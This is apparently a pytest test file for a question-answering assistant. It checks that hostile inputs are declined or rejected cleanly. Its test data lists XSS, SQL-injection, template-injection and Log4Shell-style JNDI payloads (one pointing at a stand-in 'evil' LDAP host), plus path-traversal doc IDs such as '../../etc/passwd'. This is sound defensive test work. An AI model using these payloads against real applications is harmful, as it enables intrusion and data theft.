"""Hostile questions, in the CLI and through the chain every endpoint uses: a clear one-line error or a normal
answer, never a stack trace; code and markup are declined, not answered from a word they happen to share."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from assistant.inputs import (
    MAX_HISTORY,
    MAX_TOP_K,
    QuestionError,
    check_doc_id,
    check_history,
    check_k,
    check_question,
)
from assistant.questions import form_problem
from assistant.text import normalise

from .conftest import ESSAY

HOSTILE = {
    "punctuation": "?!?!... ;;; ---",
    "controls": "How did Russia\x00 respond\x07 in\x1b[31m Belarus\x7f?",
    "russian": "Как Россия отреагировала на кризис в Беларуси?",
    "armenian": "Ինչպե՞ս արձագանքեց Ռուսաստանը Լեռնային Ղարաբաղում:",
    "emoji": "🙂🙂 What did Russia do in Belarus? 🇧🇾",
    "html": "<script>alert(document.cookie)</script>",
    "html-attr": "<img src=x onerror=alert(1)>",
    "sql": "'; DROP TABLE x; --",
    "sql-lower": "'; drop table negotiations; --",
    "sql-names": "Robert'); DROP TABLE students;--",
    "template": "{{7*7}} ${jndi:ldap://evil/x}",
}
DECLINED = {"punctuation", "html", "html-attr", "sql", "sql-lower", "sql-names", "template"}


def run(settings, *args, stdin: bytes | None = None, env: dict | None = None):
    environment = {**os.environ, "ASSISTANT_DATA_DIR": str(settings.data_dir),
                   "ASSISTANT_KNOWLEDGE_DIR": str(settings.knowledge_dir), **(env or {})}
    return subprocess.run([sys.executable, "-m", "assistant", *args], capture_output=True, env=environment,
                          timeout=120, input=stdin)


@pytest.fixture(scope="module")
def cli_store(tmp_path_factory):
    from assistant.settings import PROJECT_ROOT, Settings

    root = tmp_path_factory.mktemp("cli-hostile")
    settings = Settings.from_env(env={}, data_dir=root / "data", knowledge_dir=PROJECT_ROOT / "knowledge")
    assert run(settings, "ingest").returncode == 0
    return settings


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_questions_answer_or_decline_through_the_chain(essay_assistant, name):
    answer = essay_assistant.ask(HOSTILE[name])
    data = json.loads(json.dumps(answer.to_json()))  # what the API and `--json` send
    failed = [c.check for c in answer.checks if not c.passed]
    if name in DECLINED:
        assert data["refused"] is True and data["citations"] == [] and "question_form" in failed
    else:
        assert "question_form" not in failed
    if name in ("controls", "emoji"):  # the words around the noise are a fair question
        assert not data["refused"] and "Belarus" in data["answer"]
    source = normalise(ESSAY.read_text(encoding="utf-8"))
    for citation in data["citations"]:
        assert source[citation["start"]:citation["end"]] == citation["text"]


@pytest.mark.parametrize("question", ["'; DROP TABLE x; --", "'; drop table x; --", "table; --",
                                      "'; drop table negotiations; --", "SELECT * FROM documents WHERE 1=1"])
def test_sql_payloads_are_declined_as_code_not_answered_from_a_shared_word(essay_assistant, question):
    answer = essay_assistant.ask(question)
    assert answer.refused and not answer.citations and not answer.partial
    form = [c for c in answer.checks if not c.passed and c.check == "question_form"]
    assert form and "code or markup" in form[0].detail


@pytest.mark.parametrize("question", ["What did Russia do in Belarus; and why?", "Moscow = Kremlin?",
                                      "Belarus && Kyrgyzstan", "How much did the 50% tariff cost - if anything?",
                                      "Why did the CSTO (a Russia-led bloc) stay out?", "Russia;",
                                      "Ինչպե՞ս արձագանքեց Ռուսաստանը:", "What does \"managed democracy\" mean?"])
def test_questions_in_words_with_some_punctuation_are_not_taken_for_code(question):
    assert form_problem(question) == ""


def test_the_check_works_on_the_users_words_not_a_rewritten_follow_up(essay_assistant):
    answer = essay_assistant.ask("'; drop table x; --", history=["How did Russia respond in Belarus?"])
    assert answer.refused and "question_form" in [c.check for c in answer.checks if not c.passed]


@pytest.mark.parametrize(("value", "message"), [
    (None, "must be text, not null"), (5, "must be text, not a number"), (["q"], "must be text, not a list"),
    ("", "is empty"), (" \t\n ", "is empty"), ("\x00\x01", "is empty"),
    ("x" * 1001, "1,001 characters long"), ("x" * 1_048_576, "1,048,576 characters long"),
    ("ok \ud800 then", "character 4 is a lone surrogate (U+D800)"),
    ("bad \udcff byte", "character 5 is the byte 0xff, which is not UTF-8"),
])
def test_unusable_questions_are_one_line_errors_naming_the_problem(value, message):
    with pytest.raises(QuestionError) as caught:
        check_question(value, max_chars=1000)
    assert message in str(caught.value) and "\n" not in str(caught.value)


def test_control_characters_become_spaces_and_text_is_nfc():
    assert check_question("Be\u0301larus\x00?\r\nand\tthen", max_chars=100) == "Bélarus ? and then"


@pytest.mark.parametrize(("value", "message"), [
    ("notalist", "history must be a list of earlier questions, not text"),
    ({"a": 1}, "history must be a list of earlier questions, not an object"),
    (["q"] * (MAX_HISTORY + 1), f"history holds {MAX_HISTORY + 1} questions; at most {MAX_HISTORY}"),
    (["fine", 5], "history item 2 must be text, not a number"),
    (["y" * 5000], "history item 1 is 5,000 characters long"),
    (["\ud800"], "history item 1 is not valid text"),
])
def test_history_is_bounded_in_type_count_and_length(value, message):
    with pytest.raises(QuestionError, match="history"):
        check_history(value, max_chars=1000)
    with pytest.raises(QuestionError) as caught:
        check_history(value, max_chars=1000)
    assert message in str(caught.value)


@pytest.mark.parametrize("value", [-1, 0, 10**9, float("nan"), float("inf"), 2.5, "abc", "4", True, [4], {}])
def test_k_must_be_a_whole_number_in_range(value):
    with pytest.raises(QuestionError, match=f"k must be a whole number from 1 to {MAX_TOP_K}"):
        check_k(value)


def test_k_accepts_null_for_the_default_and_whole_numbers():
    assert (check_k(None), check_k(3), check_k(7.0), check_k(MAX_TOP_K)) == (None, 3, 7, MAX_TOP_K)


@pytest.mark.parametrize("value", [None, 3, "", "../../etc/passwd", "/etc/passwd", "a b", "x" * 400, "id\x00"])
def test_doc_ids_are_checked_before_any_lookup(value):
    with pytest.raises(ValueError, match="doc_id"):
        check_doc_id(value)


# The CLI: a process per case, as a user runs it; errors are one line on stderr with exit 2, answers one JSON object.

def _one_line_error(result) -> str:
    err = result.stderr.decode("utf-8", "replace")
    assert result.returncode == 2 and result.stdout == b"" and "Traceback" not in err
    assert err.startswith("error: ") and err.count("\n") == 1
    return err


def test_cli_reports_an_invalid_utf8_byte_in_the_argument(cli_store):
    err = _one_line_error(run(cli_store, "ask", "--json", b"Belarus \xff\xfe crisis"))
    assert "the byte 0xff, which is not UTF-8" in err


def test_cli_reports_an_encoded_lone_surrogate_as_invalid_bytes(cli_store):
    err = _one_line_error(run(cli_store, "ask", b"why \xed\xa0\x80?"))
    assert "not UTF-8" in err


def test_cli_reads_a_one_megabyte_question_from_stdin_and_refuses_it(cli_store):
    err = _one_line_error(run(cli_store, "ask", "--json", "-", stdin=b"why " * 262_144))
    assert "1,048,575 characters long; questions can be at most 1,000" in err


@pytest.mark.parametrize("k", ["-1", "0", "1000000000", "abc", "nan"])
def test_cli_k_out_of_range_is_a_usage_error(cli_store, k):
    result = run(cli_store, "ask", "-k", k, "How did Russia respond in Belarus?")
    assert result.returncode == 2 and b"Traceback" not in result.stderr and b"--top-k" in result.stderr


@pytest.mark.parametrize("name", ["controls", "emoji", "sql"])
def test_cli_answers_hostile_questions_with_one_json_object(cli_store, name):
    result = run(cli_store, "ask", "--json", "-", stdin=HOSTILE[name].encode("utf-8"), env={"LANG": "C"})
    assert result.returncode == 0 and b"Traceback" not in result.stderr, result.stderr
    data = json.loads(result.stdout.decode("utf-8"))
    assert data["refused"] is (name in DECLINED)
    assert "\x00" not in data["question"] and "\x1b" not in data["question"]
    readable = run(cli_store, "ask", "-", stdin=HOSTILE[name].encode("utf-8"), env={"LANG": "C"})
    assert readable.returncode == 0 and b"Traceback" not in readable.stderr
